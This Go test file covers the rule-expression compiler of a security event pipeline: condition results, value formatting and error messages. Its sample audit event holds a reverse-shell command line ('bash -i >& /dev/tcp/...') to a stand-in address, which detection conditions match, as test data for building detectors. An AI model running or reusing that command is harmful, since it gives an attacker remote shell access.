package expr

import (
	"errors"
	"strings"
	"testing"
	"time"

	"tallyman/pipeline/event"
	"tallyman/pipeline/plugin"
	"tallyman/pipeline/schema"
)

func at(s string) plugin.Text {
	return plugin.Text{Value: s, Pos: plugin.Pos{File: "r.yaml", Line: 7, Col: 5}}
}

func options() Options {
	return Options{
		Lists: map[string][]string{
			"shells": {"sh", "bash"}, "nets": {"10.0.0.0/8", "192.0.2.1", "fd00::/8"}, "words": {"a"},
		},
		ListenDocumented: func(image string, port int) bool { return image == "shop/api" && port == 8080 },
		EgressDocumented: func(_, ip string, port int) bool { return ip == "10.0.0.5" && port == 5432 },
		ImageAllowed:     func(image string) bool { return strings.HasPrefix(image, "corp/") },
	}
}

// sample has at least one field of each type.
func sample() *event.Event {
	e := &event.Event{
		ID: event.NewID([]byte("x")), Time: time.Date(2026, 11, 21, 2, 25, 1, 0, time.UTC), Dataset: "auditd.log",
		Seen: time.Date(2026, 11, 21, 2, 25, 2, 0, time.UTC), Raw: "raw text",
	}
	ip, _ := event.IP("10.1.2.3")
	e.Shared.AddString(schema.HostName, "node-7")
	e.Shared.AddString(schema.ProcessName, "shared")
	f := &e.Fields
	f.AddString(schema.EventAction, "executed")
	f.AddString(schema.EventType, "start")
	f.AddString(schema.EventType, "change")
	f.AddString(schema.ProcessName, "bash")
	f.AddString(schema.ProcessName, "second")
	f.Add(schema.ProcessPID, event.Int(4242))
	f.Add(schema.ProcessParentPID, event.Uint(1<<63))
	f.AddString(schema.ProcessExecutable, "/usr/bin/bash")
	f.AddString(schema.ProcessCommandLine, "bash -i >& /dev/tcp/192.0.2.1/9")
	f.AddString(schema.ProcessArgs, "bash")
	f.AddString(schema.ProcessArgs, "-i")
	f.Add(schema.ProcessInteractive, event.Bool(true))
	f.Add(schema.FileModeRequested, event.Int(0o755))
	f.Add(schema.SourceIP, ip)
	f.Add(schema.EventRiskScore, event.Float(47.5))
	f.Add(schema.EventStart, event.Time(time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)))
	f.AddNamed(schema.AuditdData, "op", event.String("add_rule"))
	f.AddNamed(schema.AuditdData, "a0", event.Int(7))
	f.AddNamed(schema.DockerContainerMounts, "0.source", event.String("/srv"))
	f.AddNamed(schema.DockerContainerMounts, "0.rw", event.Bool(true))
	f.AddNamed(schema.DockerContainerMounts, "1.source", event.String("/etc"))
	f.AddNamed(schema.Labels, "dotted.name", event.String("prod"))
	return e
}

// conditions are expressions over sample and what they give.
var conditions = []struct {
	text string
	want bool
}{
	{`process.name == "bash"`, true},
	{`"bash" == process.name`, true},
	{`process.name != "bash"`, false},
	{`host.name == "node-7"`, true},
	{`process["name"] == "bash"`, true},
	{`process?.name == "bash"`, true},
	{`container.id == ""`, true},
	{`container.id != "" && process.pid > 0`, false},
	{`process.pid == 4242 and not (process.pid < 1)`, true},
	{`process.pid >= 4242 && process.pid <= 4242 && process.pid != 1`, true},
	{`process.parent.pid > 9223372036854775806`, true},
	{`process.vpid == 0`, true},
	{`process.interactive`, true},
	{`process.interactive == true`, true},
	{`tallyman.container.host != false`, false},
	{`process.name in ["sh", "bash"]`, true},
	{`process.name not in ["sh", "bash"]`, false},
	{`process.pid in [1, 4242]`, true},
	{`"change" in event.type`, true},
	{`"end" in event.type`, false},
	{`process.name in event.type`, false},
	{`"host" in [docker.container.pid_mode, process.name]`, false},
	{`"bash" in [docker.container.pid_mode, process.name]`, true},
	{`process.command_line matches "(?i)/DEV/tcp/"`, true},
	{`process.executable startsWith "/usr" && process.executable endsWith "bash" && process.executable contains "bin"`, true},
	{`process.executable startsWith process.name`, false},
	{`inlist(process.name, "shells")`, true},
	{`!inlist(process.executable, "shells")`, true},
	{`inlist(lower(process.name), "shells")`, true},
	{`inlist(basename(process.executable), "shells")`, true},
	{`dirname(process.executable) == "/usr/bin"`, true},
	{`basename(file.path) == "" && dirname(file.path) == ""`, true},
	{`any(process.args, # == "-i")`, true},
	{`any(process.args, # startsWith "-" && # != "-i")`, false},
	{`all(process.args, # != process.executable)`, true},
	{`none(process.args, # == "-i")`, false},
	{`all(tags, false)`, true},
	{`any(process.args, {inlist(#, "shells")})`, true},
	{`any(process.args, {# in ["-i"] || # matches "^x"})`, true},
	{`any(process.args, "-i" in [#, "x"])`, true},
	{`any(process.args, any(event.type, # == "change"))`, true},
	{`any(process.args, len(#) == 2)`, true},
	{`count(process.args, # startsWith "-") == 1`, true},
	{`len(process.args) == 2 && len(tags) == 0`, true},
	{`process.args[1] == "-i" && process.args[-2] == "bash" && process.args[9] == "" && process.args[-9] == ""`, true},
	{`bitand(file.mode_requested, 0o111) != 0`, true},
	{`bitand(file.mode_requested, 0o022) != 0`, false},
	{`auditd.data["op"] matches "(add|remove)[_ ]rule"`, true},
	{`auditd.data.op == "add_rule" && auditd.data.a0 == "7" && auditd.data.none == ""`, true},
	{`"op" in auditd.data && len(auditd.data) == 2`, true},
	{`auditd.data[lower("OP")] == "add_rule"`, true},
	{`labels["dotted.name"] == "prod"`, true},
	{`any(docker.container.mounts, #.source == "/etc")`, true},
	{`any(docker.container.mounts, inlist(#.source, "shells"))`, false},
	{`docker.container.mounts[0].rw == "true" && docker.container.mounts[5].source == ""`, true},
	{`docker.container.mounts[-1].source == "/etc"`, true},
	{`event.risk_score > 47.0 && event.risk_score < 48`, true},
	{`timestamp.Year() == 2026 && event.start < timestamp`, true},
	{`event.created > timestamp && event.end.IsZero()`, true},
	{`event.dataset == "auditd.log" && event.original == "raw text" && len(event.id) == 26`, true},
	{`cidr(source.ip, "192.0.2.0/24", "10.0.0.0/8")`, true},
	{`cidr(source.ip, "10.1.2.3")`, true},
	{`cidr(destination.ip, "0.0.0.0/0")`, false},
	{`cidrlist(source.ip, "nets")`, true},
	{`private(source.ip) && !loopback(source.ip)`, true},
	{`loopback("127.0.0.1") && loopback("::ffff:127.0.0.1") && loopback("::1") && !loopback("x")`, true},
	{`private("169.254.1.1") && private("fd00::1") && private("fe80::1") && !private("192.0.2.1")`, true},
	{`under(process.executable, "/opt", "/usr/bin/")`, true},
	{`under(process.executable, "/usr/bi")`, false},
	{`under("/usr/bin", "/usr/bin") && under("/x", "/")`, true},
	{`under("/tmp/../etc/passwd", "/tmp")`, false},
	{`under("/var/../tmp/x", "/tmp") && under("/tmp/..x", "/tmp")`, true},
	{`glob(process.executable, "/opt/*", "/usr/*/bash")`, true},
	{`glob(process.executable, "/usr/*")`, false},
	{`glob(process.executable, "/usr/**", "/x")`, true},
	{`glob("/a.b", "/a?b") && !glob("/axb", "/a.b") && !glob("/a/b", "/a?b")`, true},
	{`image_allowed("corp/x") && !image_allowed("evil/x")`, true},
	{`doc_listen("shop/api", 8080) && !doc_listen(container.image.name, server.port)`, true},
	{`doc_egress("x", "10.0.0.5", 5432) && !doc_egress("x", source.ip, 1)`, true},
	{`process.pid > 1 ? process.name == "bash" : false`, true},
	{`let n = process.name; n == "bash"`, true},
	{`process.name + "x" == "bashx"`, true},
	{`true`, true},
}

func TestConditions(t *testing.T) {
	c, m := NewCompiler(options()), NewMachine()
	for _, one := range conditions {
		p, err := c.Bool(at(one.text))
		if err != nil {
			t.Errorf("%s: %v", one.text, err)
			continue
		}
		for range 2 { // the second run sees what the first may have left
			if got, err := p.Test(m, sample()); got != one.want || err != nil {
				t.Errorf("%s: %v, %v", one.text, got, err)
			}
		}
		// Nothing of one event is seen in the next.
		if _, err := p.Test(m, &event.Event{}); err != nil {
			t.Errorf("%s on an empty event: %v", one.text, err)
		}
	}
}

func TestValuesBecomeText(t *testing.T) {
	c, m := NewCompiler(options()), NewMachine()
	for text, want := range map[string]string{
		`process.name`:                       "bash",
		`process.pid`:                        "4242",
		`event.risk_score`:                   "47.5",
		`process.interactive`:                "true",
		`event.start`:                        "2026-01-02T03:04:05Z",
		`event.end`:                          "",
		`container.image.hash.all[0]`:        "",
		`process.args[1]`:                    "-i",
		`auditd.data["op"]`:                  "add_rule",
		`'k8s-api'`:                          "k8s-api",
		`process.pid + 1`:                    "4243",
		`process.name + ":" + host.name`:     "bash:node-7",
		`process.name == "bash"`:             "true",
		`process.pid > 1 ? "many" : "one"`:   "many",
		`timestamp - timestamp`:              "0s",
		`join(process.args, " ")`:            "bash -i",
		`timestamp`:                          "2026-11-21T02:25:01Z",
		`upper(process.name) + event.action`: "BASHexecuted",
	} {
		p, err := c.String(at(text))
		if err != nil {
			t.Errorf("%s: %v", text, err)
			continue
		}
		if got, err := p.Eval(m, sample()); got != want || err != nil {
			t.Errorf("%s gives %q, %v, not %q", text, got, err, want)
		}
	}
}

func TestProblems(t *testing.T) {
	c := NewCompiler(options())
	for _, one := range []struct {
		name, text string
		col        int // of the first problem; texts begin in column 5
		says       []string
	}{
		{"typo in a field", `process.nmae == "x"`, 5, []string{"there is no field process.nmae", `did you mean "process.name"?`}},
		{"typo in a group", `true && proces.name == "x"`, 13, []string{"there is no field proces.name", `did you mean "process.name"?`}},
		{"all unknown names", `user.nam == "" && process.pidd == 1`, 5, []string{"user.nam", "process.pidd", `"process.pid"`}},
		{"the wrong group", `image.name == ""`, 5, []string{"there is no field image.name", `did you mean "container.image.name"?`}},
		{"typo before a name of a map", `auditd.dta["op"] == ""`, 5, []string{"there is no field auditd.dta.op", `"auditd.data"`}},
		{"typo before a number", `process.arg[0] == ""`, 5, []string{"there is no field process.arg", `"process.args"`}},
		{"a group as a field", `process == ""`, 5, []string{"process is a group of fields"}},
		{"a group in a call", `len(process.parent) > 0`, 9, []string{"process.parent is a group"}},
		{"a group by a number", `process[0] == ""`, 5, []string{"process is a group"}},
		{"wrong type", `process.pid == "1"`, 17, []string{"int", "string"}},
		{"wrong type after a rune", `process.name == "é" && process.pid == "1"`, 41, []string{"int"}},
		{"not a condition", `process.name`, 5, []string{"bool", "string"}},
		{"a list as a text", `event.type == "start"`, 16, []string{"list", "string"}},
		{"unknown list", `inlist(process.name, "shels")`, 26, []string{"there is no list shels", `did you mean "shells"?`}},
		{"list from a field", `inlist(process.name, process.title)`, 26, []string{"texts in quotes"}},
		{"list of a number", `inlist(process.pid, "shells")`, 12, []string{"int"}},
		{"unknown list in a pattern", `any(process.args, inlist(#, "shels"))`, 33, []string{"shels"}},
		{"unknown function", `inlst(process.name, "shells")`, 5, []string{"no function inlst", `"inlist"`}},
		{"the clock", `now() > timestamp`, 5, []string{"no function now"}},
		{"too few arguments", `inlist(process.name)`, 5, []string{"not enough arguments"}},
		{"bad network", `cidr(source.ip, "10.0.0.0/8", "10.0.0.256")`, 35, []string{"10.0.0.256 is no network"}},
		{"list without networks", `cidrlist(source.ip, "words")`, 25, []string{"words", `"a"`}},
		{"relative folder", `under(file.path, "etc")`, 22, []string{"no absolute path"}},
		{"bad pattern", `process.name matches "("`, 0, []string{"missing closing )"}},
		{"pattern from a field", `process.name matches process.title`, 26, []string{"must be a text in quotes"}},
		{"syntax", `process.name ==`, 0, []string{"unexpected"}},
		{"empty", ``, 5, []string{"unexpected"}},
		{"at sign", `@timestamp > event.start`, 0, []string{"write timestamp"}},
		{"range", `process.pid in 1..3`, 0, []string{"ranges"}},
		{"environment", `$env["process"] != nil`, 5, []string{"no field $env"}},
		{"variable over a group", `let process = 1; process == 1`, 9, []string{"hide"}},
		{"second line", "process.pid == 1 &&\nuser.nmae == \"\"", 5, []string{"r.yaml:8:5", "user.nmae"}},
		{"too long", strings.Repeat(" ", 20000) + "true", 5, []string{"too long"}},
		{"too many nodes", strings.Repeat("!", 3000) + "true", 0, []string{"node"}},
	} {
		t.Run(one.name, func(t *testing.T) {
			_, err := c.Bool(at(one.text))
			var p plugin.Problems
			if !errors.As(err, &p) || len(p) == 0 {
				t.Fatalf("%s: the error is %v", one.text, err)
			}
			for _, s := range one.says {
				if !strings.Contains(err.Error(), s) {
					t.Errorf("%s: %q does not say %q", one.text, err, s)
				}
			}
			if one.col > 0 && p[0].Pos.Col != one.col {
				t.Errorf("%s: the problem is in column %d, not %d: %v", one.text, p[0].Pos.Col, one.col, err)
			}
			if strings.Contains(err.Error(), "\n | ") || strings.Contains(err.Error(), "map[") {
				t.Errorf("the message shows the library: %v", err)
			}
		})
	}
	if _, err := c.String(at("process.args")); err == nil || !strings.Contains(err.Error(), "a list") {
		t.Errorf("a list was taken for a text: %v", err)
	}
}
